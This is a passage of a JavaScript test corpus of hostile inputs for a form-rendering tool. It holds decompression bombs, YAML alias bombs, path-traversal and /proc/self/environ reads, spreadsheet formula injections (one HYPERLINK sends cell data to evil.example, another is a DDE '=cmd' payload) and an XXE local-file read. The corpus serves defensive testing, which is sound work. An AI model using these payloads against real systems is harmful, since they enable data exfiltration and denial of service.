/**
 * The hostile pass of issue 21, written down: each input as an attacker or a careless colleague
 * would hand it to yoshiki, made at run time (the large ones take no room in the repository), with
 * what yoshiki must do — refuse it with a message at its place, or render it correctly.
 *
 * An entry: { id, cat, expect: 'refuse' | 'ok' | 'usage' | 'any', says?: RegExp, make(c) } where
 * make writes the case into c.case (the case's folder) and returns how to run it: { args, stdin,
 * wrap: 'full' | 'readonly', outsideAllowed }. The default run is `yoshiki render case/case.yaml -o
 * out` from c.dir. c.outside holds canaries (a picture, a list, a PDF, a font) no case may read
 * unless allowed, and nothing may be written anywhere but the output folder.
 *
 * test/hostile/run.mjs runs every entry as a process under a time limit, measures its memory and
 * watches its file accesses; test/clients/hostile.test.ts runs the cheap ones in CI.
 */
import { execFileSync } from 'node:child_process';
import { copyFileSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync as deflateOnce } from 'node:zlib';
import { isScalar, parseDocument, visit } from 'yaml';
import {
  cell, FIXTURES, fixtureText, FONT, fontCut, fontTableDamaged, GOOD_PNG, jpegDeclaring, jpegOf, onePagePdf, PAGE, pdfOf,
  pngChunks, pngOf, pngRaw, pngWithIhdr, sjis, sparse, utf16, WORK, worksCsv, worksRowsXml, WORK_HEAD, xlsxOf, zipOf,
} from './make.mjs';

/** The contract case used for each of the eight forms. */
export const FORM_CASES = {
  ruling: 'ruling-reprint',
  'unmanaged-ruling': 'unmanaged-ruling-two-contacts',
  deposit: 'deposit-compensation',
  'deferred-payment': 'deferred-payment',
  'ill-request': 'ill-request',
  'ill-registration': 'ill-registration',
  'ill-receipt': 'ill-receipt',
  'transmission-exclusion': 'transmission-exclusion',
};

/** The context an entry is made in: its folders and small writers. */
export function context(dir) {
  const c = {
    dir,
    case: join(dir, 'case'),
    out: join(dir, 'out'),
    outside: join(dir, '..', 'outside'),
    write(name, data) {
      writeFileSync(join(c.case, name), data);
      return name;
    },
    yaml(text, name = 'case.yaml') {
      writeFileSync(join(c.case, name), text);
    },
  };
  mkdirSync(c.case, { recursive: true });
  for (const f of readdirSync(FIXTURES)) if (!f.endsWith('.yaml') && f.includes('.')) copyFileSync(join(FIXTURES, f), join(c.case, f));
  return c;
}

/** The canaries outside every case's folder: valid files, so that reading one shows as a success. */
export function makeOutside(outside) {
  mkdirSync(outside, { recursive: true });
  writeFileSync(join(outside, 'canary.png'), GOOD_PNG);
  writeFileSync(join(outside, 'canary.csv'), worksCsv([['CANARY-TITLE', 'CANARY-AUTHOR', ...WORK.slice(2)]]));
  writeFileSync(join(outside, 'canary.pdf'), readFileSync(join(FIXTURES, 'ruling-submission-colophon.pdf')));
  copyFileSync(FONT, join(outside, 'canary.ttf'));
  writeFileSync(join(outside, 'canary.yaml'), 'fields: {}\n');
  copyFileSync(join(FIXTURES, 'candidate-list.xlsx'), join(outside, 'canary.xlsx'));
  execFileSync('mkfifo', [join(outside, 'pipe.png')]); // opened, it would wait for a writer for ever
}

const q = (s) => JSON.stringify(s); // a YAML double-quoted scalar (JSON's escapes are YAML's)
const edit = (fixture, from, to) => {
  const text = fixtureText(fixture);
  if (!text.includes(from)) throw new Error(`${fixture} has no ${from}`);
  return text.replace(from, to);
};
/** The ILL registration with its reading-room photograph named `name`. */
const photo = (name) => edit('ill-registration', 'reading_room_photo: reading-room.png', `reading_room_photo: ${q(name)}`);
/** The anthology ruling with one attached file `name`. */
const attached = (name) => edit('ruling-anthology', 'attachments: [cover-photo.png]', `attachments: [${q(name)}]`);
/** The submission ruling with its colophon PDF named `name`. */
const pdfAttached = (name) => edit('ruling-submission', 'file: ruling-submission-colophon.pdf', `file: ${q(name)}`);
/** The bulk ruling with its works list named `name`. */
const works = (name) => edit('ruling-bulk', 'works_file: ruling-bulk-works.csv', `works_file: ${q(name)}`);
/** A deposit naming a font of its own. */
const font = (name) => `${fixtureText('deposit-compensation')}\nfonts: [${q(name)}]\n`;
/** The exclusion request with the NDL's list named `name`. */
const list = (name) => edit('transmission-exclusion-list', 'file: candidate-list.xlsx', `file: ${q(name)}`);
/** The loan request written onto a form PDF (and map) of the case's folder. */
const official = (pdf, map) => `${fixtureText('ill-request')}\nofficial_forms:\n  request: { file: ${q(pdf)}${map ? `, map: ${q(map)}` : ''} }\n`;
const requestMap = (fields) => `unit: pt\nfields:\n${Object.entries(fields).map(([k, v]) => `  ${k}: ${v}`).join('\n')}\n`;

const rowsOf = (n, row = WORK) => Array.from({ length: n }, (_, i) => [`${row[0]}${i}`, ...row.slice(1)]);

/** Every input of the pass. */
export function corpus() {
  const E = [];
  const add = (cat, id, expect, make, says) => E.push({ cat, id, expect, make, says });

  // ── pictures: damaged, huge, lying ───────────────────────────────────────────────────────────
  const damaged = /壊れているか途中で切れていて|damaged or cut short|画像|image/i;
  const pictures = {
    'png-truncated': () => GOOD_PNG.subarray(0, GOOD_PNG.length - 600),
    'png-truncated-after-ihdr': () => GOOD_PNG.subarray(0, 40),
    'png-bad-crc': () => pngOf(pngChunks().map((c) => ({ ...c, badCrc: c.type === 'IDAT' }))),
    'png-bad-idat': () => pngOf(pngChunks().map((c) => (c.type === 'IDAT' ? { ...c, data: Buffer.from(c.data).fill(7, 10, 40) } : c))),
    'png-palette-no-plte': () => pngWithIhdr((h) => { h[9] = 3; }),
    'png-bad-depth': () => pngWithIhdr((h) => { h[8] = 7; }),
    'png-20000x20000': () => pngWithIhdr((h) => { h.writeUInt32BE(20_000, 0); h.writeUInt32BE(20_000, 4); }),
    'png-0x0': () => pngWithIhdr((h) => { h.writeUInt32BE(0, 0); h.writeUInt32BE(0, 4); }),
    'png-2^31-wide': () => pngWithIhdr((h) => { h.writeUInt32BE(0x7fffffff, 0); h.writeUInt32BE(1, 4); }),
    'png-no-iend': () => pngOf(pngChunks().filter((c) => c.type !== 'IEND')),
    'png-no-idat': () => pngOf(pngChunks().filter((c) => c.type !== 'IDAT')),
    'png-signature-only': () => GOOD_PNG.subarray(0, 8),
    'png-empty-file': () => Buffer.alloc(0),
    'png-text-file': () => Buffer.from('this is not a picture\n'),
    'png-idat-trailing-garbage': () => pngOf(pngChunks().map((c) => (c.type === 'IDAT' ? { ...c, data: Buffer.concat([c.data, Buffer.alloc(5000, 1)]) } : c))),
    'jpeg-truncated': () => jpegOf().subarray(0, 300),
    'jpeg-65000x65000': () => jpegDeclaring(65_000, 65_000),
    'jpeg-header-only': () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0]),
    'gif-as-png': () => Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'),
  };
  for (const [id, bytes] of Object.entries(pictures))
    add('pictures', id, 'refuse', (c) => c.yaml(photo(c.write(`photo${id.startsWith('jpeg') ? '.jpg' : '.png'}`, bytes()))), damaged);
  add('pictures', 'jpeg-named-png', 'any', (c) => c.yaml(photo(c.write('photo.png', jpegOf()))));
  add('pictures', 'png-named-jpg', 'any', (c) => c.yaml(photo(c.write('photo.jpg', GOOD_PNG))));
  add('pictures', 'png-16bit-rgba', 'ok', (c) => c.yaml(photo(c.write('photo.png', pngRaw(40, 30, { type: 6, depth: 16, channels: 4 })))));
  // Harmless oddities a decoder may accept or refuse: a repeated header, an empty text chunk, an
  // interlace flag over data laid out plainly.
  add('pictures', 'png-two-ihdr', 'any', (c) => c.yaml(photo(c.write('photo.png', pngOf([pngChunks()[0], ...pngChunks()])))));
  add('pictures', 'png-empty-ztxt', 'any', (c) => c.yaml(photo(c.write('photo.png', pngOf([pngChunks()[0], { type: 'zTXt', data: Buffer.from('k\0\0') }, ...pngChunks().slice(1)])))));
  add('pictures', 'png-interlace-flag-plain-data', 'any', (c) => c.yaml(photo(c.write('photo.png', pngRaw(40, 30, { interlace: 1 })))));
  add('pictures', 'png-1-bit-gray', 'ok', (c) => c.yaml(photo(c.write('photo.png', pngRaw(50, 30, { depth: 1 })))));
  // Decompression bombs: 6,000 × 6,000 grey is 36 M pixels from a 40 KB file (past the limit); RGB
  // just within it must render within 10 s and 500 MB.
  add('pictures', 'png-rgb-19.9M-pixels', 'ok', (c) => c.yaml(photo(c.write('photo.png', pngRaw(4000, 4975, { type: 2, channels: 3, fill: 0x40 })))));
  add('pictures', 'png-bomb-36M-pixels', 'refuse', (c) => c.yaml(photo(c.write('photo.png', pngRaw(6000, 6000)))));
  add('pictures', 'png-bomb-20M-plus-1', 'refuse', (c) => c.yaml(photo(c.write('photo.png', pngRaw(20_000_001, 1)))), /画素|pixels/);
  add('pictures', 'png-sparse-1GB', 'refuse', (c) => { sparse(join(c.case, 'photo.png'), 1 << 30, GOOD_PNG.subarray(0, 33)); c.yaml(photo('photo.png')); });
  add('pictures', 'png-attachment-damaged', 'refuse', (c) => c.yaml(attached(c.write('scan.png', GOOD_PNG.subarray(0, 900)))), damaged);
  add('pictures', 'png-attachment-huge-dims', 'refuse', (c) => c.yaml(attached(c.write('scan.png', pngWithIhdr((h) => h.writeUInt32BE(100_000, 4))))));

  // ── PDFs named by a case ─────────────────────────────────────────────────────────────────────
  const pdfs = {
    'pdf-truncated': () => readFileSync(join(FIXTURES, 'ruling-submission-colophon.pdf')).subarray(0, 4000),
    'pdf-header-only': () => Buffer.from('%PDF-1.7\n'),
    'pdf-text-file': () => Buffer.from('not a pdf at all'),
    'pdf-empty': () => Buffer.alloc(0),
    'pdf-no-pages': () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
    'pdf-pages-loop': () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
    'pdf-count-lies': () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>', PAGE]),
    'pdf-encrypted': () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', PAGE, '<< /Filter /Standard /V 1 /R 2 /O (xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx) /U (xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx) /P -4 >>'], { trailerExtra: '/Encrypt 4 0 R /ID [<01> <01>]' }),
    'pdf-deep-arrays': () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /X ${'['.repeat(100_000)} >>`]),
    'pdf-no-xref': () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', PAGE], { xref: false }),
    'pdf-stream-bomb': () => {
      const zeros = Buffer.alloc(200 << 20);
      const packed = deflateOnce(zeros);
      return Buffer.concat([Buffer.from('%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>\nendobj\n', 'latin1'),
        Buffer.from(`4 0 obj\n<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`, 'latin1'), packed, Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R /Size 5 >>\n%%EOF\n', 'latin1')]);
    },
  };
  for (const [id, bytes] of Object.entries(pdfs)) add('pdfs', id, 'any', (c) => c.yaml(pdfAttached(c.write('colophon.pdf', bytes()))));
  add('pdfs', 'pdf-sparse-2GB', 'refuse', (c) => { sparse(join(c.case, 'colophon.pdf'), 2 ** 31, '%PDF-1.4\n'); c.yaml(pdfAttached('colophon.pdf')); });
  add('pdfs', 'pdf-a-folder', 'refuse', (c) => { mkdirSync(join(c.case, 'colophon.pdf')); c.yaml(pdfAttached('colophon.pdf')); });
  add('pdfs', 'pdf-reply-dev-zero', 'refuse', (c) => c.yaml(edit('ruling-submission', 'reply_file: ruling-submission-reply.pdf', 'reply_file: /dev/zero')));

  // ── fonts ────────────────────────────────────────────────────────────────────────────────────
  add('fonts', 'font-dev-zero-case', 'refuse', (c) => c.yaml(font('/dev/zero')));
  add('fonts', 'font-dev-zero-cli', 'refuse', () => ({ args: ['render', 'case/case.yaml', '-o', 'out', '--font', '/dev/zero'] }));
  add('fonts', 'font-dev-zero-cli-setup', 'refuse', (c) => { c.yaml(fixtureText('deposit-compensation')); return { args: ['check', 'case/case.yaml', '--font', '/dev/zero'] }; });
  add('fonts', 'font-fifo-cli', 'refuse', (c) => { c.yaml(fixtureText('deposit-compensation')); return { fifo: 'case/f.ttf', args: ['check', 'case/case.yaml', '--font', 'case/f.ttf'] }; });
  add('fonts', 'font-truncated', 'refuse', (c) => { fontCut(join(c.case, 'f.ttf'), 5000); c.yaml(font('f.ttf')); });
  add('fonts', 'font-header-only', 'refuse', (c) => { fontCut(join(c.case, 'f.ttf'), 12); c.yaml(font('f.ttf')); });
  add('fonts', 'font-random-bytes', 'refuse', (c) => { c.write('f.ttf', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) & 255))); c.yaml(font('f.ttf')); });
  add('fonts', 'font-png-renamed', 'refuse', (c) => { c.write('f.ttf', GOOD_PNG); c.yaml(font('f.ttf')); });
  add('fonts', 'font-glyf-damaged', 'any', (c) => { fontTableDamaged(join(c.case, 'f.ttf'), 'glyf'); c.yaml(font('f.ttf')); });
  add('fonts', 'font-loca-damaged', 'any', (c) => { fontTableDamaged(join(c.case, 'f.ttf'), 'loca'); c.yaml(font('f.ttf')); });
  add('fonts', 'font-cmap-damaged', 'any', (c) => { fontTableDamaged(join(c.case, 'f.ttf'), 'cmap'); c.yaml(font('f.ttf')); });
  add('fonts', 'font-sparse-1.9GB', 'refuse', (c) => { sparse(join(c.case, 'f.ttf'), 1_900_000_000, '\0\x01\0\0'); c.yaml(font('f.ttf')); });
  add('fonts', 'font-outside-by-case', 'refuse', (c) => c.yaml(font('../../outside/canary.ttf')), /outside|フォルダの外/);
  add('fonts', 'font-outside-cli-allowed', 'ok', (c) => { c.yaml(fixtureText('deposit-compensation')); return { args: ['check', 'case/case.yaml', '--font', '../outside/canary.ttf'], outsideAllowed: true }; });
  add('fonts', 'font-a-folder-cli', 'refuse', (c) => { c.yaml(fixtureText('deposit-compensation')); return { args: ['check', 'case/case.yaml', '--font', 'case'] }; });
  add('fonts', 'font-missing-cli', 'refuse', (c) => { c.yaml(fixtureText('deposit-compensation')); return { args: ['render', 'case/case.yaml', '-o', 'out', '--font', 'nowhere.ttf'] }; });

  // ── devices, FIFOs, links, sparse files named by a case ────────────────────────────────────────
  const notFile = /普通のファイルではありません|not a regular file|見つかりません|does not exist|外|outside|読めません|cannot be read/;
  for (const dev of ['/dev/zero', '/dev/urandom', '/dev/stdin', '/proc/self/mem', '/proc/self/environ', '/dev/null'])
    add('devices', `works-${dev}`, 'refuse', (c) => ({ ...(c.yaml(works(dev)), {}), args: ['render', 'case/case.yaml', '-o', 'out', '--allow-files-outside'], outsideAllowed: true }), notFile);
  add('devices', 'works-fifo', 'refuse', (c) => { c.yaml(works('w.csv')); return { fifo: 'case/w.csv' }; }, notFile);
  add('devices', 'photo-fifo', 'refuse', (c) => { c.yaml(photo('p.png')); return { fifo: 'case/p.png' }; }, notFile);
  add('devices', 'case-file-fifo', 'refuse', () => ({ fifo: 'case/case.yaml' }), notFile);
  add('devices', 'case-file-dev-zero', 'refuse', () => ({ args: ['check', '/dev/zero'] }));
  add('devices', 'case-file-dev-urandom', 'refuse', () => ({ args: ['check', '/dev/urandom'] }));
  add('devices', 'works-a-folder', 'refuse', (c) => { mkdirSync(join(c.case, 'w.csv')); c.yaml(works('w.csv')); }, notFile);
  add('devices', 'works-symlink-out', 'refuse', (c) => { symlinkSync('../../outside/canary.csv', join(c.case, 'w.csv')); c.yaml(works('w.csv')); }, /outside|外/);
  add('devices', 'works-dotdot', 'refuse', (c) => c.yaml(works('../../outside/canary.csv')), /outside|外/);
  add('devices', 'works-absolute', 'refuse', (c) => c.yaml(works(join(c.outside, 'canary.csv'))), /outside|外/);
  add('devices', 'photo-symlink-out', 'refuse', (c) => { symlinkSync(join(c.outside, 'canary.png'), join(c.case, 'p.png')); c.yaml(photo('p.png')); }, /outside|外/);
  add('devices', 'photo-dir-symlink-out', 'refuse', (c) => { symlinkSync(c.outside, join(c.case, 'sub')); c.yaml(photo('sub/canary.png')); }, /outside|外/);
  add('devices', 'photo-symlink-loop', 'refuse', (c) => { symlinkSync('p.png', join(c.case, 'p.png')); c.yaml(photo('p.png')); });
  add('devices', 'photo-dangling-symlink', 'refuse', (c) => { symlinkSync('gone.png', join(c.case, 'p.png')); c.yaml(photo('p.png')); });
  add('devices', 'attachment-fifo', 'refuse', (c) => { c.yaml(attached('scan.png')); return { fifo: 'case/scan.png' }; }, notFile);
  add('devices', 'attachment-fifo-outside', 'refuse', (c) => c.yaml(attached('../../outside/pipe.png')), /outside|外/);
  add('devices', 'attachment-outside', 'refuse', (c) => c.yaml(attached('../../outside/canary.png')), /outside|外/);
  add('devices', 'pdf-outside', 'refuse', (c) => c.yaml(pdfAttached(join(c.outside, 'canary.pdf'))), /outside|外/);
  add('devices', 'list-outside', 'refuse', (c) => c.yaml(list('../../outside/canary.xlsx')), /outside|外/);
  add('devices', 'map-outside', 'refuse', (c) => { c.write('form.pdf', onePagePdf()); c.yaml(official('form.pdf', '../../outside/canary.yaml')); }, /outside|外/);
  add('devices', 'form-pdf-outside', 'refuse', (c) => c.yaml(official('../../outside/canary.pdf')), /outside|外/);
  add('devices', 'photo-outside-allowed', 'ok', (c) => { c.yaml(photo('../../outside/canary.png')); return { args: ['render', 'case/case.yaml', '-o', 'out', '--allow-files-outside'], outsideAllowed: true }; });
  add('devices', 'photo-file-url', 'refuse', (c) => c.yaml(photo(`file://${c.outside}/canary.png`)));
  add('devices', 'photo-home-tilde', 'refuse', (c) => c.yaml(photo('~/canary.png')));
  add('devices', 'photo-unicode-dotdot', 'refuse', (c) => c.yaml(photo('．．/．．/outside/canary.png')));
  add('devices', 'works-sparse-1GB', 'refuse', (c) => { sparse(join(c.case, 'w.csv'), 1 << 30, `${WORK_HEAD.join(',')}\n`); c.yaml(works('w.csv')); });
  add('devices', 'case-in-folder-symlinked-out', 'any', (c) => { writeFileSync(join(c.case, 'a.yaml'), fixtureText('ill-receipt')); symlinkSync(join(c.outside, 'canary.yaml'), join(c.case, 'b.yaml')); return { args: ['check', 'case'], outsideAllowed: true }; });

  // ── YAML: huge, deep, aliased, duplicated ────────────────────────────────────────────────────
  const yamlCase = (id, expect, text, says) => add('yaml', id, expect, (c) => c.yaml(typeof text === 'function' ? text() : text), says);
  yamlCase('yaml-5MB-plus-1', 'refuse', () => `form: deposit\n#${'x'.repeat(5 * 1024 * 1024)}\n`, /大きすぎ|too large/);
  yamlCase('yaml-40000-keys', 'refuse', () => `form: deposit\n${Array.from({ length: 40_000 }, (_, i) => `k${i}: 1`).join('\n')}\n`);
  yamlCase('yaml-20000-empty-maps', 'refuse', () => `form: ruling\nworks:\n${'- {}\n'.repeat(20_000)}`);
  yamlCase('yaml-200000-values', 'refuse', () => `form: ruling\nworks: [${'1,'.repeat(200_001)}]\n`);
  yamlCase('yaml-4.8MB-brackets', 'refuse', () => `form: deposit\nmode: ${'['.repeat(4_800_000)}\n`, /深すぎ|too deep/);
  yamlCase('yaml-deep-braces', 'refuse', () => `form: deposit\nmode: ${'{a: '.repeat(10_000)}\n`, /深すぎ|too deep/);
  yamlCase('yaml-deep-block-maps', 'refuse', () => `form: deposit\n${Array.from({ length: 3000 }, (_, i) => `${' '.repeat(i)}k${i}:`).join('\n')} 1\n`);
  yamlCase('yaml-deep-block-seqs', 'refuse', () => `form: deposit\nmode:\n${Array.from({ length: 3000 }, (_, i) => `${'  '.repeat(i)}-`).join('\n')} 1\n`);
  yamlCase('yaml-compact-seqs', 'refuse', () => `form: deposit\nmode: ${'- '.repeat(20_000)}1\n`);
  yamlCase('yaml-alias-bomb', 'refuse', () => `form: deposit\na0: &a0 [x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 12 }, (_, i) => `a${i + 1}: &a${i + 1} [*a${i}, *a${i}, *a${i}, *a${i}, *a${i}, *a${i}, *a${i}, *a${i}, *a${i}]`).join('\n')}\n`, /多すぎ|too many/);
  yamlCase('yaml-alias-long-string', 'refuse', () => `form: ruling\nx: &s ${'あ'.repeat(19_000)}\nworks: [${Array.from({ length: 2000 }, () => '{title: *s}').join(', ')}]\n`);
  yamlCase('yaml-190000-aliases', 'refuse', () => `form: ruling\nx: &b 1\nworks: [${'*b, '.repeat(190_000)}]\n`);
  yamlCase('yaml-aliases-to-long-text', 'refuse', () => `form: ruling\nx: &s ${'あ'.repeat(19_000)}\nworks: [${Array.from({ length: 9000 }, () => '{title: *s, author: *s, description: *s}').join(', ')}]\n`, /文字が多すぎ|too much text/);
  yamlCase('yaml-merge-keys', 'refuse', () => `form: deposit\nb: &b {x: 1}\nc:\n  <<: [${Array.from({ length: 5000 }, () => '*b').join(', ')}]\n`);
  yamlCase('yaml-self-alias', 'refuse', 'form: deposit\na: &a [*a]\n');
  yamlCase('yaml-undefined-alias', 'refuse', 'form: deposit\na: *nothing\n');
  yamlCase('yaml-anchored-key', 'refuse', 'form: deposit\n&k key: 1\n*k : 2\n');
  yamlCase('yaml-duplicate-keys-10000', 'refuse', () => `form: deposit\n${'title: x\n'.repeat(10_000)}`);
  yamlCase('yaml-unknown-tags', 'refuse', 'form: !custom deposit\n', /タグ|tag/);
  yamlCase('yaml-js-function-tag', 'refuse', 'form: deposit\ndate: !!js/function "function(){}"\n');
  yamlCase('yaml-binary-tag', 'refuse', 'form: deposit\ndate: !!binary aGVsbG8=\n');
  yamlCase('yaml-set-tag', 'refuse', 'form: deposit\ndate: !!set {a, b}\n');
  yamlCase('yaml-directives', 'refuse', '%YAML 1.1\n%TAG !x! tag:evil,2000:\n---\nform: !x!y deposit\n');
  yamlCase('yaml-two-documents', 'refuse', `${fixtureText('ill-receipt')}\n---\nform: deposit\n`);
  yamlCase('yaml-only-comments', 'refuse', '# nothing\n# here\n');
  yamlCase('yaml-complex-key', 'refuse', 'form: deposit\n? [a, b]\n: 1\n');
  yamlCase('yaml-null-key', 'refuse', 'form: deposit\n~: 1\n');
  yamlCase('yaml-numeric-keys', 'refuse', 'form: deposit\n1: 1\n1.5: 2\n');
  yamlCase('yaml-huge-numbers', 'refuse', () => fixtureText('ruling-reprint').replace(/unit_price: \d+/, 'unit_price: 1e400'));
  yamlCase('yaml-nan-inf', 'refuse', () => fixtureText('ruling-reprint').replace(/unit_price: \d+/, 'unit_price: .nan'));
  yamlCase('yaml-hex-octal', 'any', () => fixtureText('ruling-reprint').replace(/unit_price: \d+/, 'unit_price: 0x700'));
  yamlCase('yaml-one-5MB-line', 'refuse', () => `form: deposit\ntitle: ${'あ'.repeat(1_600_000)}\n`);
  yamlCase('yaml-1M-key', 'refuse', () => `form: deposit\n${'k'.repeat(1_000_000)}: 1\n`);
  yamlCase('yaml-lone-surrogate', 'refuse', () => fixtureText('ill-receipt').replace(/^date: .*$/m, (d) => `${d}\nnote: "\\uD800"`));
  yamlCase('yaml-nul-bytes', 'refuse', 'form: deposit\0\ntitle: a\0b\n');
  yamlCase('yaml-utf16le-bom', 'any', () => utf16(fixtureText('ill-receipt')));
  yamlCase('yaml-utf16be-bom', 'any', () => utf16(fixtureText('ill-receipt'), true));
  yamlCase('yaml-utf16-no-bom', 'refuse', () => Buffer.from(fixtureText('ill-receipt'), 'utf16le'));
  yamlCase('yaml-cp932', 'any', () => sjis(fixtureText('deposit-compensation')));
  yamlCase('yaml-utf8-bom', 'ok', () => `\uFEFF${fixtureText('ill-receipt')}`);
  yamlCase('yaml-bom-mid-file', 'any', () => fixtureText('ill-receipt').replace('\n', '\n\uFEFF'));
  yamlCase('yaml-combining-marks', 'refuse', () => fixtureText('ill-receipt').replace(/^date: .*$/m, (d) => `${d}\nnote: "e${'\u0301'.repeat(1_500_000)}"`));
  yamlCase('yaml-100000-spaces-in-a-title', 'refuse', () => edit('ruling-reprint', '  - title: 日本の文化', `  - title: "日本${' '.repeat(100_000)}の文化"`));
  yamlCase('yaml-19000-spaces-in-a-title', 'any', () => edit('ruling-reprint', '  - title: 日本の文化', `  - title: "日本${' '.repeat(19_000)}の文化"`));
  yamlCase('yaml-19000-closing-brackets', 'any', () => edit('ruling-reprint', '  - title: 日本の文化', `  - title: "日本${'」'.repeat(19_000)}の文化"`));
  yamlCase('yaml-proto-keys', 'refuse', 'form: deposit\n__proto__: {polluted: 1}\nconstructor: {prototype: {polluted: 1}}\n');
  yamlCase('form-constructor', 'refuse', 'form: constructor\n', /form/);
  yamlCase('form-hasOwnProperty', 'refuse', 'form: hasOwnProperty\n', /form/);
  yamlCase('form-__proto__', 'refuse', 'form: __proto__\n', /form/);
  yamlCase('form-toString', 'refuse', 'form: toString\n', /form/);

  // ── wrong types everywhere, in every form ─────────────────────────────────────────────────────
  const mutations = {
    list: (doc) => doc.createNode(['x']),
    map: (doc) => doc.createNode({ a: 1 }),
    null: (doc) => doc.createNode(null),
    number: (doc) => doc.createNode(-12345.5),
    bool: (doc) => doc.createNode(true),
    long: (doc) => doc.createNode('長'.repeat(20_001)),
  };
  for (const [form, fixture] of Object.entries(FORM_CASES)) {
    for (const [kind, make] of Object.entries(mutations))
      add('wrong-types', `${form}-every-scalar-${kind}`, 'refuse', (c) => c.yaml(everyScalar(fixtureText(fixture), make)));
    add('wrong-types', `${form}-every-mapping-text`, 'refuse', (c) => c.yaml(everyMapping(fixtureText(fixture))));
  }

  // ── works lists: formulas, bombs, encodings ──────────────────────────────────────────────────
  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '＝1+1'];
  add('works', 'csv-formulas', 'ok', (c) => c.yaml(works(c.write('w.csv', worksCsv(FORMULAS.map((f, i) => [f, `${f}著者`, 'language', `${f}説明${i}`, ...WORK.slice(4)]))))), undefined);
  add('works', 'xlsx-formulas-cached', 'ok', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({
    rows: worksRowsXml(FORMULAS.map((f) => [f, ...WORK.slice(1)]), (ref, v) => (ref.startsWith('A') && ref !== 'A1' ? `<c r="${ref}" t="str"><f>HYPERLINK("http://evil.example","x")</f><v>${xmlEscape(v)}</v></c>` : cell(ref, xmlEscape(v)))),
  })))));
  add('works', 'xlsx-formula-no-value', 'any', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({
    rows: worksRowsXml([WORK], (ref, v) => (ref === 'A2' ? `<c r="${ref}"><f>1+1</f></c>` : cell(ref, xmlEscape(v)))),
  })))));
  add('works', 'xlsx-shared-strings-bomb', 'refuse', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({
    rows: worksRowsXml([WORK]), shared: `<si><t>${'x'.repeat(1000)}</t></si>`.repeat(400_000),
  })))));
  add('works', 'xlsx-shared-string-index-huge', 'refuse', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({
    rows: worksRowsXml([WORK], (ref, v) => (ref === 'A2' ? `<c r="${ref}" t="s"><v>4294967295</v></c>` : cell(ref, v))), shared: '<si><t>a</t></si>',
  })))));
  add('works', 'xlsx-zip-bomb', 'refuse', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({
    sheetXml: Buffer.concat([Buffer.from(`<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${worksRowsXml([WORK])}`), Buffer.alloc(1 << 30, 0x20), Buffer.from('</sheetData></worksheet>')]),
  })))));
  add('works', 'xlsx-entry-size-lies', 'any', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({
    extra: [{ name: 'xl/worksheets/sheet1.xml', data: `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${worksRowsXml([WORK])}</sheetData></worksheet>`, claimSize: 10 }],
  })))));
  add('works', 'xlsx-1M-empty-rows', 'any', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({
    rows: `${worksRowsXml([WORK])}${Array.from({ length: 1_000_000 }, (_, i) => `<row r="${i + 3}"/>`).join('')}`,
  })))));
  add('works', 'xlsx-1M-rows-of-empty-cells', 'any', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({
    rows: `${worksRowsXml([WORK])}${Array.from({ length: 1_000_000 }, (_, i) => `<row r="${i + 3}"><c r="A${i + 3}"/></row>`).join('')}`,
  })))));
  add('works', 'xlsx-row-number-huge', 'any', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({ rows: `${worksRowsXml([WORK])}<row r="1048576">${cell('A1048576', 'x')}</row>` })))));
  add('works', 'xlsx-cell-ref-huge-column', 'any', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({ rows: `${worksRowsXml([WORK])}<row r="3">${cell('XFD3', 'x')}${cell('ZZZZZZ3', 'y')}</row>` })))));
  add('works', 'xlsx-xxe', 'refuse', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({ prolog: `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${c.outside}/canary.csv">]>`, rows: worksRowsXml([['&e;', ...WORK.slice(1)]], (ref, v) => `<c r="${ref}" t="inlineStr"><is><t>${v}</t></is></c>`) })))));
